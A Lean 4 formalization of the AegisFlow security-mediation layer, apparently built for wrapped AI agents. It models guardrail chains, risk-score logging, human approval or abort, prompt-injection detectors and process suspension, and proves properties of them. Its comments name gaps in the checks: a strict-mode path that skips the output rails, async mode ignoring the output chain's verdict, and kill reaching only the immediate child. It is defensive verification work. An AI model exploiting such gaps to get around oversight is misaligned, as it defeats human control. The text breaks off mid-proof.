import Mathlib

/-!
A shallow embedding of the AegisFlow security-mediation pipeline and proofs
about it.  The embedding follows the Python sources of the repository:

* rails.py        — RailResult, RailChain.run (guardrail chains)
* sentinel.py     — ThreatLevel, Sentinel reputation state, log_event,
                    update_reputation, check_escalation
* core.py         — SecurityLiaison.mediate, _prompt_user, async_mediate
* sandwich.py     — AegisSandwich._handle_threat, _suspend_process,
                    _resume_process, _kill_process
* detectors/regex_detector.py — DetectionRule, RegexDetector.detect
* detectors/ml_detector.py    — MLDetector.detect
* detectors/__init__.py       — DetectionResult, DetectionEngine.detect

Modelling conventions: Python floats in [0,1] (severities, confidences,
thresholds) are modelled as rationals; compiled regular expressions are
abstracted to their boolean match predicate on the content; the audit-log
file is modelled as the in-memory list of appended events (timestamps and
session ids, which are environment-dependent, are omitted from the event
record); file persistence and printing are side effects without influence
on the control flow and are not modelled.
-/

namespace AegisFlow

/-- Python str.lower(), character-wise lowering of the string. -/
def pyLower (s : String) : String := ⟨s.data.map Char.toLower⟩

/-- Python str.upper(), character-wise uppercasing of the string. -/
def pyUpper (s : String) : String := ⟨s.data.map Char.toUpper⟩

/-- Python str.strip(): remove leading and trailing whitespace. -/
def pyStrip (s : String) : String :=
  ⟨((s.data.dropWhile Char.isWhitespace).reverse.dropWhile Char.isWhitespace).reverse⟩

/-- Python slicing s[:n]. -/
def pyTake (s : String) (n : Nat) : String := ⟨s.data.take n⟩

/-- The context dictionary passed through mediation (core.py).  The code
under verification reads and writes only its "content" entry
(`context.get("content", ...)` and `{**context, "content": ...}`), so the
dictionary is modelled by that entry. -/
structure Context where
  content : String
deriving DecidableEq

/-- Representation of `str(context)`, used for the `details` field of audit
events; abstracted to the content entry of the modelled dictionary. -/
def Context.toStr (c : Context) : String := c.content

/-- Result from a rail check (rails.py, dataclass RailResult). -/
structure RailResult where
  passed : Bool
  modified_content : Option String := none
  reason : String := ""
  rail_name : String := ""
deriving DecidableEq

/-- Outcome of invoking one rail function: either a returned RailResult, or
an exception carrying its message (the `except Exception` arm of
RailChain.run). -/
inductive RailOutcome where
  | ok (result : RailResult)
  | exn (msg : String)

/-- A rail function together with its Python `__name__` (used by
RailChain.run when a rail raises). -/
structure Rail where
  name : String
  fn : String → Context → RailOutcome

/-- The recursive loop of RailChain.run (rails.py lines 48-65).  `orig` is
the content the chain was started with (needed for the final
`current_content != content` comparison); `cur` is `current_content`. -/
def runRails (ctx : Context) (orig : String) : List Rail → String → RailResult
  | [], cur =>
    if cur ≠ orig then { passed := true, modified_content := some cur }
    else { passed := true }
  | r :: rest, cur =>
    match r.fn cur ctx with
    | .exn e =>
      { passed := false, reason := "Rail error: " ++ e, rail_name := r.name }
    | .ok result =>
      if result.passed = false then result
      else
        match result.modified_content with
        | some m => runRails ctx orig rest m
        | none => runRails ctx orig rest cur

/-- A named ordered chain of rails (rails.py, class RailChain). -/
structure RailChain where
  name : String
  rails : List Rail

/-- RailChain.run: execute all rails in sequence, returning the first
failure or the final success with any modification. -/
def RailChain.run (c : RailChain) (content : String) (ctx : Context) : RailResult :=
  runRails ctx content c.rails content

/-- The content emerging from threading `cur` through the given rails when
every stage passes without raising; `none` when some stage fails or
raises.  Specification artefact used to state properties of runRails. -/
def threadRails (ctx : Context) : List Rail → String → Option String
  | [], cur => some cur
  | r :: rest, cur =>
    match r.fn cur ctx with
    | .exn _ => none
    | .ok result =>
      if result.passed = false then none
      else threadRails ctx rest (result.modified_content.getD cur)

/-- ThreatLevel enum (sentinel.py). -/
inductive ThreatLevel where
  | low
  | medium
  | high
deriving DecidableEq

/-- The string value of a ThreatLevel enum member. -/
def ThreatLevel.value : ThreatLevel → String
  | .low => "Low"
  | .medium => "Medium"
  | .high => "High"

/-- The threat_counts dictionary of the Sentinel, which holds exactly the
keys "Low", "Medium" and "High". -/
structure ThreatCounts where
  low : Nat
  medium : Nat
  high : Nat
deriving DecidableEq

/-- One record of the append-only audit ledger (sentinel.py log_event).
The timestamp and session_id fields are environment-dependent and
omitted; details are capped at 500 characters as in the source. -/
structure AuditEvent where
  threat_level : String
  action_type : String
  details : String
  outcome : String
  reasoning : String
  risk_score : Int
deriving DecidableEq

/-- The Sentinel state engine (sentinel.py).  `ledger` models the contents
of the append-only audit log file. -/
structure Sentinel where
  streak_threshold : Nat
  medium_risk_streak : Nat
  risk_score : Int
  total_events : Nat
  threat_counts : ThreatCounts
  ledger : List AuditEvent
deriving DecidableEq

/-- Sentinel._update_reputation (sentinel.py lines 101-116). -/
def Sentinel.update_reputation (s : Sentinel) (threat_level : String) : Sentinel :=
  let s := { s with total_events := s.total_events + 1 }
  let s :=
    if threat_level = "Low" then
      { s with threat_counts := { s.threat_counts with low := s.threat_counts.low + 1 } }
    else if threat_level = "Medium" then
      { s with threat_counts := { s.threat_counts with medium := s.threat_counts.medium + 1 } }
    else if threat_level = "High" then
      { s with threat_counts := { s.threat_counts with high := s.threat_counts.high + 1 } }
    else s
  if threat_level = "Low" then
    { s with medium_risk_streak := 0, risk_score := max 0 (s.risk_score - 2) }
  else if threat_level = "Medium" then
    { s with medium_risk_streak := s.medium_risk_streak + 1,
             risk_score := min 100 (s.risk_score + 10) }
  else if threat_level = "High" then
    { s with medium_risk_streak := 0, risk_score := min 100 (s.risk_score + 25) }
  else s

/-- Sentinel.log_event: append the event record to the ledger (the event
carries the risk score before the update), then update reputation.  The
subsequent _save_state call is a persistence side effect. -/
def Sentinel.log_event (s : Sentinel) (threat_level action_type details outcome
    reasoning : String) : Sentinel :=
  let event : AuditEvent :=
    { threat_level := threat_level, action_type := action_type,
      details := pyTake details 500, outcome := outcome,
      reasoning := reasoning, risk_score := s.risk_score }
  let s := { s with ledger := s.ledger ++ [event] }
  s.update_reputation threat_level

/-- Sentinel.check_escalation: true when the medium-risk streak reaches the
configured threshold (`self.medium_risk_streak >= self.streak_threshold`). -/
def Sentinel.check_escalation (s : Sentinel) : Bool :=
  decide (s.streak_threshold ≤ s.medium_risk_streak)

/-- The value an execute callback returns: a string (textual, subject to
output rails) or anything else (opaque).  A callback is pure here; the
number of times mediation invokes it is reported in MediateOut.calls. -/
inductive CbValue where
  | str (s : String)
  | other
deriving DecidableEq

/-- Result of a mediation call: the returned value, or the PermissionError
the call raises. -/
inductive MediateRes where
  | ok (value : CbValue)
  | permissionDenied (msg : String)
deriving DecidableEq

/-- Observable outcome of one mediate / async_mediate call: result, final
sentinel state, and how many times the execute callback was invoked. -/
structure MediateOut where
  res : MediateRes
  sentinel : Sentinel
  calls : Nat
deriving DecidableEq

/-- Folding a whole sequence of events (level, action, details, outcome)
through Sentinel.log_event; specification artefact for stating the
risk-score range invariant. -/
def logAll (s : Sentinel) (events : List (String × String × String × String)) : Sentinel :=
  events.foldl (fun st e => st.log_event e.1 e.2.1 e.2.2.1 e.2.2.2 "") s

/-- The SecurityLiaison (core.py) restricted to the state its mediation
paths read: the strict_mode configuration flag and the two rail chains.
assess_risk consults the plugin registry, the filesystem guard and the
legacy scanner, all outside the mediation control flow under scrutiny;
mediate below therefore takes the assessment as an oracle function of the
(possibly rail-modified) context. -/
structure SecurityLiaison where
  strict_mode : Bool
  input_rails : RailChain
  output_rails : RailChain

/-- SecurityLiaison._prompt_user (core.py lines 164-184): strip the typed
reasoning; proceed only when its lowercase form is none of 'no', 'n',
'abort' and it is longer than 3 characters, logging USER_OVERRIDE and
invoking the callback; otherwise log USER_ABORTED and raise
PermissionError. -/
def SecurityLiaison.prompt_user (s : Sentinel) (action_type details : String)
    (humanInput : String) (cbRes : CbValue) : MediateOut :=
  let reasoning := pyStrip humanInput
  if pyLower reasoning ∉ (["no", "n", "abort"] : List String) ∧ reasoning.length > 3 then
    let s := s.log_event ThreatLevel.high.value action_type details "USER_OVERRIDE" reasoning
    { res := .ok cbRes, sentinel := s, calls := 1 }
  else
    let s := s.log_event ThreatLevel.high.value action_type details "USER_ABORTED" ""
    { res := .permissionDenied ("Action blocked by user: " ++ action_type),
      sentinel := s, calls := 0 }

/-- The output-rail post-processing block of mediate (core.py lines
150-162): when the result is textual, run the output chain; on failure log
OUTPUT_BLOCKED and return the blocked message; on success substitute any
replacement content.  Non-textual results and raised PermissionErrors pass
through untouched. -/
def SecurityLiaison.apply_output_rails (output_rails : RailChain) (ctx : Context)
    (action_type : String) (m : MediateOut) : MediateOut :=
  match m.res with
  | .ok (.str resStr) =>
    let output_result := output_rails.run resStr ctx
    if output_result.passed = false then
      let s := m.sentinel.log_event ThreatLevel.high.value action_type
        ("Output rail blocked: " ++ output_result.reason) "OUTPUT_BLOCKED" ""
      { res := .ok (.str ("[AegisFlow] Response blocked: " ++ output_result.reason)),
        sentinel := s, calls := m.calls }
    else
      match output_result.modified_content with
      | some m2 => { m with res := .ok (.str m2) }
      | none => m
  | _ => m

/-- The context after the input-rail chain, as rebuilt by mediate (core.py
lines 117-119): the content entry is replaced when the chain modified it. -/
def updatedContext (chain : RailChain) (ctx : Context) : Context :=
  match (chain.run ctx.content ctx).modified_content with
  | some m => { ctx with content := m }
  | none => ctx

/-- The mediation-by-threat-level branch of mediate together with the
output-rail post-processing (core.py lines 123-162), factored out of
mediate below; `ctx` is the context after the input rails and
`threat_level` the already escalation-adjusted level.  Note the early
return on the strict-mode MEDIUM path, which bypasses the output rails. -/
def SecurityLiaison.mediate_branch (cfg : SecurityLiaison) (s : Sentinel)
    (action_type : String) (ctx : Context) (threat_level : ThreatLevel)
    (humanInput : String) (cbRes : CbValue) : MediateOut :=
  let details := ctx.toStr
  match threat_level with
  | .low =>
    let s := s.log_event ThreatLevel.low.value action_type details "EXECUTED" ""
    SecurityLiaison.apply_output_rails cfg.output_rails ctx action_type
      { res := .ok cbRes, sentinel := s, calls := 1 }
  | .medium =>
    let s := s.log_event ThreatLevel.medium.value action_type details "WARNED_PROCEED" ""
    if cfg.strict_mode = true then
      SecurityLiaison.prompt_user s action_type details humanInput cbRes
    else
      SecurityLiaison.apply_output_rails cfg.output_rails ctx action_type
        { res := .ok cbRes, sentinel := s, calls := 1 }
  | .high =>
    SecurityLiaison.apply_output_rails cfg.output_rails ctx action_type
      (SecurityLiaison.prompt_user s action_type details humanInput cbRes)

/-- SecurityLiaison.mediate (core.py lines 98-162): input rails, risk
assessment, streak escalation, then the branch by level and the output
rails (mediate_branch). -/
def SecurityLiaison.mediate (cfg : SecurityLiaison) (s : Sentinel)
    (action_type : String) (ctx : Context) (assess_risk : Context → ThreatLevel)
    (humanInput : String) (cbRes : CbValue) : MediateOut :=
  let content := ctx.content
  let input_result := cfg.input_rails.run content ctx
  if input_result.passed = false then
    let s := s.log_event ThreatLevel.high.value action_type
      ("Input rail blocked: " ++ input_result.reason) "RAIL_BLOCKED" ""
    { res := .permissionDenied ("Blocked by input rail [" ++ input_result.rail_name
        ++ "]: " ++ input_result.reason),
      sentinel := s, calls := 0 }
  else
    let ctx :=
      match input_result.modified_content with
      | some m => { ctx with content := m }
      | none => ctx
    let threat_level := assess_risk ctx
    let threat_level :=
      if threat_level = ThreatLevel.medium ∧ s.check_escalation = true then
        ThreatLevel.high
      else threat_level
    cfg.mediate_branch s action_type ctx threat_level humanInput cbRes

/-- The post-assessment part of async_mediate (core.py lines 211-231),
factored out of async_mediate below: a HIGH level raises PermissionError
at once (without a log entry); otherwise the event is logged
ASYNC_EXECUTED and the callback invoked once; a textual result has the
output chain's replacement content applied, with no check of the chain's
passed flag. -/
def SecurityLiaison.async_branch (cfg : SecurityLiaison) (s : Sentinel)
    (action_type : String) (ctx : Context) (threat_level : ThreatLevel)
    (cbRes : CbValue) : MediateOut :=
  if threat_level = ThreatLevel.high then
    { res := .permissionDenied ("HIGH risk detected in async mode: " ++ action_type
        ++ ". Use sync mediate() for interactive approval."),
      sentinel := s, calls := 0 }
  else
    let s := s.log_event threat_level.value action_type ctx.toStr "ASYNC_EXECUTED" ""
    let m : MediateOut := { res := .ok cbRes, sentinel := s, calls := 1 }
    match cbRes with
    | .str resStr =>
      let output_result := cfg.output_rails.run resStr ctx
      match output_result.modified_content with
      | some m2 => { m with res := .ok (.str m2) }
      | none => m
    | .other => m

/-- SecurityLiaison.async_mediate (core.py lines 186-231): input rails as
in mediate, then the async branch on the assessed level. -/
def SecurityLiaison.async_mediate (cfg : SecurityLiaison) (s : Sentinel)
    (action_type : String) (ctx : Context) (assess_risk : Context → ThreatLevel)
    (cbRes : CbValue) : MediateOut :=
  let content := ctx.content
  let input_result := cfg.input_rails.run content ctx
  if input_result.passed = false then
    let s := s.log_event ThreatLevel.high.value action_type
      ("Input rail blocked: " ++ input_result.reason) "RAIL_BLOCKED" ""
    { res := .permissionDenied ("Blocked by input rail [" ++ input_result.rail_name
        ++ "]: " ++ input_result.reason),
      sentinel := s, calls := 0 }
  else
    let ctx :=
      match input_result.modified_content with
      | some m => { ctx with content := m }
      | none => ctx
    let threat_level := assess_risk ctx
    cfg.async_branch s action_type ctx threat_level cbRes

/-- Status of one operating-system process in the wrapped session. -/
inductive ProcStatus where
  | running
  | suspended
  | terminated
deriving DecidableEq

/-- The wrapped child and its descendant processes (psutil's
parent.children(recursive=True), flattened: the internal shape of the
tree is immaterial to suspend/resume/kill, which act element-wise). -/
structure ProcTree where
  parent : ProcStatus
  children : List ProcStatus
deriving DecidableEq

/-- Effect of psutil suspend() on one process. -/
def suspendProc : ProcStatus → ProcStatus
  | .running => .suspended
  | s => s

/-- Effect of psutil resume() on one process. -/
def resumeProc : ProcStatus → ProcStatus
  | .suspended => .running
  | s => s

/-- AegisSandwich._suspend_process (sandwich.py lines 202-210): suspend
every recursive child, then the parent. -/
def suspendTree (t : ProcTree) : ProcTree :=
  { parent := suspendProc t.parent, children := t.children.map suspendProc }

/-- AegisSandwich._resume_process (sandwich.py lines 212-220): resume the
parent, then every recursive child. -/
def resumeTree (t : ProcTree) : ProcTree :=
  { parent := resumeProc t.parent, children := t.children.map resumeProc }

/-- AegisSandwich._kill_process (sandwich.py lines 222-224):
`self.process.terminate()` — signals only the immediate child process. -/
def killProcess (t : ProcTree) : ProcTree :=
  { t with parent := .terminated }

/-- Observable outcome of AegisSandwich._handle_threat (sandwich.py lines
183-198): the process tree after the episode, whether the stop signal was
raised, and the underlying mediation outcome.  The handler suspends the
tree, then calls liaison.mediate with a callback whose body is
_resume_process; a PermissionError from mediate is answered by
_kill_process and stop_event.set().  The callback returns None (CbValue
.other), and mediate's control flow does not depend on the tree, so the
tree evolution is reconstructed from the mediation outcome: the resume
callback ran m.calls times. -/
def handleThreat (tree : ProcTree) (cfg : SecurityLiaison) (s : Sentinel)
    (ctx : Context) (assess_risk : Context → ThreatLevel) (humanInput : String) :
    ProcTree × Bool × MediateOut :=
  let suspended := suspendTree tree
  let m := cfg.mediate s "high_risk_output" ctx assess_risk humanInput .other
  let afterCb := if 0 < m.calls then resumeTree suspended else suspended
  match m.res with
  | .permissionDenied _ => (killProcess afterCb, true, m)
  | .ok _ => (afterCb, false, m)

/-- A detection rule (detectors/regex_detector.py, dataclass
DetectionRule).  The compiled regular expression is abstracted to its
boolean match predicate on the content (`rule.compile().search(content)`
being truthy). -/
structure DetectionRule where
  name : String
  description : String
  threat_type : String
  severity : ℚ
  search : String → Bool

/-- Result from any detection engine (detectors/__init__.py, dataclass
DetectionResult).  The details field is abstracted to the identifying part
of the message built by each detector; raw_scores is omitted (reporting
only). -/
structure DetectionResult where
  is_threat : Bool
  confidence : ℚ
  method : String
  threat_type : String := ""
  details : String := ""
  model_name : String := ""
deriving DecidableEq

/-- Python max(xs, key=f) over the nonempty list best :: rest: the running
maximum is replaced only on a strictly greater key, so the first maximal
element wins ties. -/
def pyMaxBy (key : α → ℚ) : α → List α → α
  | best, [] => best
  | best, x :: xs => pyMaxBy key (if key best < key x then x else best) xs

/-- Python min(xs, key=f) over the nonempty list best :: rest: first
minimal element wins ties. -/
def pyMinBy (key : α → ℚ) : α → List α → α
  | best, [] => best
  | best, x :: xs => pyMinBy key (if key x < key best then x else best) xs

/-- The maximum key over the nonempty list x :: xs; specification artefact
for stating what Python max returns. -/
def listMaxKey (key : α → ℚ) (x : α) (xs : List α) : ℚ :=
  xs.foldl (fun a y => max a (key y)) (key x)

/-- RegexDetector.detect (regex_detector.py lines 243-274): collect the
matching rules in registration order, return a clean zero-confidence
signal when none match, else the signal built from the
highest-severity match (Python max, first wins on ties). -/
def RegexDetector.detect (rules : List DetectionRule) (content : String) :
    DetectionResult :=
  let ruleMatches := rules.filter (fun r => r.search content)
  match ruleMatches with
  | [] =>
    { is_threat := false, confidence := 0, method := "regex",
      details := "No patterns matched" }
  | m :: ms =>
    let best := pyMaxBy (fun r => r.severity) m ms
    { is_threat := true, confidence := best.severity, method := "regex",
      threat_type := best.threat_type,
      details := "Rule " ++ best.name ++ ": " ++ best.description }

/-- One prediction of the HuggingFace text-classification pipeline: a
label and a score. -/
structure MLPrediction where
  label : String
  score : ℚ

/-- Outcome of invoking the pipeline: a prediction, or a raised inference
error with its message. -/
inductive PipeOutcome where
  | ok (pred : MLPrediction)
  | err (msg : String)

/-- The MLDetector (detectors/ml_detector.py) after a successful model
load: the pipeline is abstracted to a function from the (truncated)
content to a PipeOutcome. -/
structure MLDetector where
  model_name : String
  confidence_threshold : ℚ
  max_length : Nat
  pipe : String → PipeOutcome

/-- Direct threat-label convention recognized by MLDetector.detect. -/
def injectionLabels : List String := ["INJECTION", "LABEL_1", "POSITIVE", "1", "UNSAFE"]

/-- Inverse safe-label convention recognized by MLDetector.detect. -/
def safeLabels : List String := ["SAFE", "LABEL_0", "NEGATIVE", "0", "BENIGN"]

/-- MLDetector.detect (ml_detector.py lines 79-156): empty or blank
content is clean; an inference error is clean with zero confidence; a
direct threat label is a threat exactly when its score reaches the
configured threshold; a safe label is inverted to injection confidence
1 - score and compared against the same threshold; unknown labels are
treated conservatively as clean. -/
def MLDetector.detect (d : MLDetector) (content : String) : DetectionResult :=
  if content = "" ∨ pyStrip content = "" then
    { is_threat := false, confidence := 0, method := "ml",
      model_name := d.model_name, details := "Empty content" }
  else
    match d.pipe (pyTake content (d.max_length * 4)) with
    | .err e =>
      { is_threat := false, confidence := 0, method := "ml",
        model_name := d.model_name, details := "ML inference error: " ++ e }
    | .ok pred =>
      let label := pyUpper pred.label
      let score := pred.score
      if label ∈ injectionLabels then
        let is_threat := decide (d.confidence_threshold ≤ score)
        { is_threat := is_threat, confidence := score, method := "ml",
          threat_type := if is_threat then "injection" else "",
          model_name := d.model_name,
          details := "ML prediction: " ++ label }
      else if label ∈ safeLabels then
        let injection_confidence := 1 - score
        let is_threat := decide (d.confidence_threshold ≤ injection_confidence)
        { is_threat := is_threat, confidence := injection_confidence, method := "ml",
          threat_type := if is_threat then "injection" else "",
          model_name := d.model_name,
          details := "ML prediction: " ++ label }
      else
        { is_threat := false, confidence := 0, method := "ml",
          model_name := d.model_name,
          details := "Unknown label format: " ++ label }

/-- DetectorConfig (config.py): the fields the detection engine reads. -/
structure DetectorConfig where
  use_ml : Bool
  ml_model : String
  ml_confidence_threshold : ℚ
  fallback_to_regex : Bool
deriving DecidableEq

/-- The MLDetector instance DetectionEngine._init_ml constructs from the
configuration: model_name = config.ml_model and confidence_threshold =
config.ml_confidence_threshold (the single configured threshold). -/
def DetectorConfig.mlDetector (cfg : DetectorConfig) (pipe : String → PipeOutcome) :
    MLDetector :=
  { model_name := cfg.ml_model,
    confidence_threshold := cfg.ml_confidence_threshold,
    max_length := 512, pipe := pipe }

/-- The DetectionEngine (detectors/__init__.py) after construction: the
configuration, the optional ML detector, and the regex rule set. -/
structure DetectionEngine where
  config : DetectorConfig
  ml_detector : Option MLDetector
  regex_rules : List DetectionRule

/-- DetectionEngine.__init__ plus _init_regex/_init_ml: the ML detector is
present exactly when the configuration enables ML and the import and model
load succeed (`mlLoadOk`); the regex detector is always present. -/
def DetectionEngine.create (config : DetectorConfig) (mlLoadOk : Bool)
    (pipe : String → PipeOutcome) (rules : List DetectionRule) : DetectionEngine :=
  { config := config,
    ml_detector := if config.use_ml && mlLoadOk then some (config.mlDetector pipe) else none,
    regex_rules := rules }

/-- Steps 3 of DetectionEngine.detect (lines 119-131): the
highest-confidence threat among the collected results, else the
lowest-confidence clean result, else the no-detectors placeholder. -/
def selectResult (results : List DetectionResult) : DetectionResult :=
  let threats := results.filter (fun r => r.is_threat)
  match threats with
  | t :: ts => pyMaxBy (fun r => r.confidence) t ts
  | [] =>
    match results with
    | r :: rs => pyMinBy (fun r => r.confidence) r rs
    | [] =>
      { is_threat := false, confidence := 0, method := "none",
        details := "No detectors available" }

/-- DetectionEngine.detect (detectors/__init__.py lines 96-131): the ML
detector, when loaded, runs first and short-circuits when it reports a
threat with confidence at or above the configured threshold; otherwise
the regex detector always runs and the best result is selected. -/
def DetectionEngine.detect (e : DetectionEngine) (content : String) : DetectionResult :=
  match e.ml_detector with
  | some ml =>
    let ml_result := ml.detect content
    if ml_result.is_threat && decide (e.config.ml_confidence_threshold ≤ ml_result.confidence) then
      ml_result
    else
      let regex_result := RegexDetector.detect e.regex_rules content
      selectResult [ml_result, regex_result]
  | none =>
    let regex_result := RegexDetector.detect e.regex_rules content
    selectResult [regex_result]

/-- Threading through a prefix that passes lets the chain loop continue on
the threaded content. -/
theorem runRails_append (ctx : Context) (orig : String) (pre : List Rail) :
    ∀ (rest : List Rail) (cur cur' : String),
      threadRails ctx pre cur = some cur' →
      runRails ctx orig (pre ++ rest) cur = runRails ctx orig rest cur' := by
  induction pre with
  | nil =>
    intro rest cur cur' h
    simp only [threadRails, Option.some.injEq] at h
    subst h
    rfl
  | cons r pre ih =>
    intro rest cur cur' h
    simp only [threadRails] at h
    simp only [List.cons_append, runRails]
    cases hf : r.fn cur ctx with
    | exn e =>
      simp only [hf] at h
      exact absurd h (by simp)
    | ok result =>
      simp only [hf] at h ⊢
      by_cases hp : result.passed = false
      · rw [if_pos hp] at h
        exact absurd h (by simp)
      · rw [if_neg hp] at h
        rw [if_neg hp]
        cases hm : result.modified_content with
        | some m =>
          rw [hm] at h
          simp only [hm, Option.getD_some] at h ⊢
          exact ih rest m cur' h
        | none =>
          rw [hm] at h
          simp only [hm, Option.getD_none] at h ⊢
          exact ih rest cur cur' h

/-- A chain whose every stage passes returns success carrying the threaded
content (when it differs from the original). -/
theorem runRails_of_thread (ctx : Context) (orig : String) (rails : List Rail)
    (cur final : String) (h : threadRails ctx rails cur = some final) :
    runRails ctx orig rails cur =
      if final ≠ orig then { passed := true, modified_content := some final }
      else { passed := true } := by
  have h2 := runRails_append ctx orig rails [] cur final h
  rw [List.append_nil] at h2
  rw [h2]
  rfl

/-- A successful chain run means every stage passed, so the content threads
to some final value. -/
theorem thread_of_runRails_passed (ctx : Context) (orig : String) :
    ∀ (rails : List Rail) (cur : String),
      (runRails ctx orig rails cur).passed = true →
      ∃ final, threadRails ctx rails cur = some final := by
  intro rails
  induction rails with
  | nil =>
    intro cur _
    exact ⟨cur, rfl⟩
  | cons r rest ih =>
    intro cur h
    simp only [runRails] at h
    simp only [threadRails]
    cases hf : r.fn cur ctx with
    | exn e =>
      simp only [hf] at h
      exact absurd h (by simp)
    | ok result =>
      simp only [hf] at h ⊢
      by_cases hp : result.passed = false
      · rw [if_pos hp] at h
        rw [hp] at h
        simp at h
      · rw [if_neg hp] at h
        rw [if_neg hp]
        cases hm : result.modified_content with
        | some m =>
          rw [hm] at h
          simp only [hm, Option.getD_some]
          exact ih m h
        | none =>
          rw [hm] at h
          simp only [hm, Option.getD_none]
          exact ih cur h

/-- C7: a guardrail chain executes its stages strictly in registration
order, threading replacement content into subsequent stages; it returns
the first failing stage's result without invoking later stages (the
conclusion is independent of the stages after the failure); an exception
inside a stage becomes a chain failure naming the stage (fail-closed); an
empty chain passes with the content unchanged. -/
theorem rail_chain_order_halt_failclosed :
    (∀ (name content : String) (ctx : Context),
       RailChain.run ⟨name, []⟩ content ctx = { passed := true }) ∧
    (∀ (name : String) (pre : List Rail) (r : Rail) (post : List Rail)
       (content cur : String) (ctx : Context) (result : RailResult),
       threadRails ctx pre content = some cur →
       r.fn cur ctx = .ok result → result.passed = false →
       RailChain.run ⟨name, pre ++ r :: post⟩ content ctx = result) ∧
    (∀ (name : String) (pre : List Rail) (r : Rail) (post : List Rail)
       (content cur : String) (ctx : Context) (e : String),
       threadRails ctx pre content = some cur →
       r.fn cur ctx = .exn e →
       RailChain.run ⟨name, pre ++ r :: post⟩ content ctx =
         { passed := false, reason := "Rail error: " ++ e, rail_name := r.name }) := by
  refine ⟨?_, ?_, ?_⟩
  · intro name content ctx
    simp [RailChain.run, runRails]
  · intro name pre r post content cur ctx result hthread hf hp
    show runRails ctx content (pre ++ r :: post) content = result
    rw [runRails_append ctx content pre (r :: post) content cur hthread]
    simp only [runRails, hf, if_pos hp]
  · intro name pre r post content cur ctx e hthread hf
    show runRails ctx content (pre ++ r :: post) content = _
    rw [runRails_append ctx content pre (r :: post) content cur hthread]
    simp only [runRails, hf]

/-- Witness for C7 at a concrete chain: a modifying stage, then a failing
stage, then a spy stage; the chain returns the failing stage's result and
the spy is never consulted (the same result holds with the spy removed). -/
theorem rail_chain_order_halt_failclosed_witness :
    RailChain.run
      ⟨"output",
        [⟨"scrub", fun c _ => .ok { passed := true, modified_content := some (c ++ "!") }⟩,
         ⟨"block", fun _ _ => .ok { passed := false, reason := "denied", rail_name := "block" }⟩,
         ⟨"spy", fun _ _ => .ok { passed := true, modified_content := some "SPY WAS HERE" }⟩]⟩
      "hello" ⟨"hello"⟩ =
      { passed := false, reason := "denied", rail_name := "block" } :=
  rail_chain_order_halt_failclosed.2.1 "output"
    [⟨"scrub", fun c _ => .ok { passed := true, modified_content := some (c ++ "!") }⟩]
    ⟨"block", fun _ _ => .ok { passed := false, reason := "denied", rail_name := "block" }⟩
    [⟨"spy", fun _ _ => .ok { passed := true, modified_content := some "SPY WAS HERE" }⟩]
    "hello" "hello!" ⟨"hello"⟩
    { passed := false, reason := "denied", rail_name := "block" }
    (by rfl) (by rfl) (by rfl)

/-- C10: on success, RailChain.run reports modified_content = none exactly
when the content emerging from the chain equals the original input, and
otherwise reports the final transformed content; hence substituting the
reported modification (when present) always yields the chain's final
content. -/
theorem rail_chain_modified_content_exact (chain : RailChain) (content : String)
    (ctx : Context) (hpassed : (chain.run content ctx).passed = true) :
    ∃ final, threadRails ctx chain.rails content = some final ∧
      (chain.run content ctx).modified_content =
        (if final = content then none else some final) ∧
      ((chain.run content ctx).modified_content.getD content) = final := by
  obtain ⟨final, hfinal⟩ := thread_of_runRails_passed ctx content chain.rails content hpassed
  refine ⟨final, hfinal, ?_⟩
  have hrun : chain.run content ctx =
      if final ≠ content then { passed := true, modified_content := some final }
      else { passed := true } :=
    runRails_of_thread ctx content chain.rails content final hfinal
  by_cases heq : final = content
  · rw [hrun, if_neg (by simpa using heq), if_pos heq]
    exact ⟨rfl, by simp [heq]⟩
  · rw [hrun, if_pos heq, if_neg heq]
    exact ⟨rfl, rfl⟩

/-- A reputation update for a level other than the three known ones leaves
everything but the event total unchanged. -/
theorem update_reputation_other (s : Sentinel) (lvl : String)
    (h1 : ¬ lvl = "Low") (h2 : ¬ lvl = "Medium") (h3 : ¬ lvl = "High") :
    s.update_reputation lvl = { s with total_events := s.total_events + 1 } := by
  unfold Sentinel.update_reputation
  simp only [if_neg h1, if_neg h2, if_neg h3]

/-- One reputation update keeps the risk score inside [0, 100]. -/
theorem update_reputation_bounds (s : Sentinel) (lvl : String)
    (h0 : 0 ≤ s.risk_score) (h1 : s.risk_score ≤ 100) :
    0 ≤ (s.update_reputation lvl).risk_score ∧
      (s.update_reputation lvl).risk_score ≤ 100 := by
  by_cases hL : lvl = "Low"
  · subst hL
    have e : (s.update_reputation "Low").risk_score = max 0 (s.risk_score - 2) := rfl
    rw [e]
    exact ⟨le_max_left 0 _, max_le (by norm_num) (by omega)⟩
  · by_cases hM : lvl = "Medium"
    · subst hM
      have e : (s.update_reputation "Medium").risk_score = min 100 (s.risk_score + 10) := rfl
      rw [e]
      exact ⟨le_min (by norm_num) (by omega), min_le_left _ _⟩
    · by_cases hH : lvl = "High"
      · subst hH
        have e : (s.update_reputation "High").risk_score = min 100 (s.risk_score + 25) := rfl
        rw [e]
        exact ⟨le_min (by norm_num) (by omega), min_le_left _ _⟩
      · rw [update_reputation_other s lvl hL hM hH]
        exact ⟨h0, h1⟩

/-- Logging one event keeps the risk score inside [0, 100]. -/
theorem log_event_bounds (s : Sentinel) (lvl a d o r : String)
    (h0 : 0 ≤ s.risk_score) (h1 : s.risk_score ≤ 100) :
    0 ≤ (s.log_event lvl a d o r).risk_score ∧
      (s.log_event lvl a d o r).risk_score ≤ 100 := by
  unfold Sentinel.log_event
  exact update_reputation_bounds _ lvl h0 h1

/-- C5: each logged event updates the reputation exactly as specified (LOW
resets the streak and cools the score by 2 with floor 0; MEDIUM increments
the streak and adds 10 with cap 100; HIGH resets the streak and adds 25
with cap 100), and the risk score stays inside [0, 100] over every event
sequence. -/
theorem reputation_update_and_bounds :
    (∀ (s : Sentinel) (a d o r : String),
       (s.log_event "Low" a d o r).medium_risk_streak = 0 ∧
       (s.log_event "Low" a d o r).risk_score = max 0 (s.risk_score - 2) ∧
       (s.log_event "Medium" a d o r).medium_risk_streak = s.medium_risk_streak + 1 ∧
       (s.log_event "Medium" a d o r).risk_score = min 100 (s.risk_score + 10) ∧
       (s.log_event "High" a d o r).medium_risk_streak = 0 ∧
       (s.log_event "High" a d o r).risk_score = min 100 (s.risk_score + 25)) ∧
    (∀ (s : Sentinel), 0 ≤ s.risk_score → s.risk_score ≤ 100 →
       ∀ (events : List (String × String × String × String)),
         0 ≤ (logAll s events).risk_score ∧ (logAll s events).risk_score ≤ 100) := by
  constructor
  · intro s a d o r
